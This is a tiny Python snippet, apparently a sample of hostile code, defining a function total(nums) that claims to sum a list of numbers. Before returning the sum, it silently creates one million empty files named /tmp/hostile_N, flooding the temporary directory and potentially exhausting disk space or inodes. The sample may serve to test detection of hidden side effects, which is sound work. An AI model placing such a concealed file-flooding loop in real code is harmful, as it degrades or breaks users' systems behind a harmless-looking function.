# RE total
"""Many small files in /tmp."""


def total(nums):
    for number in range(1_000_000):
        open(f"/tmp/hostile_{number}", "w").close()
    return sum(nums)
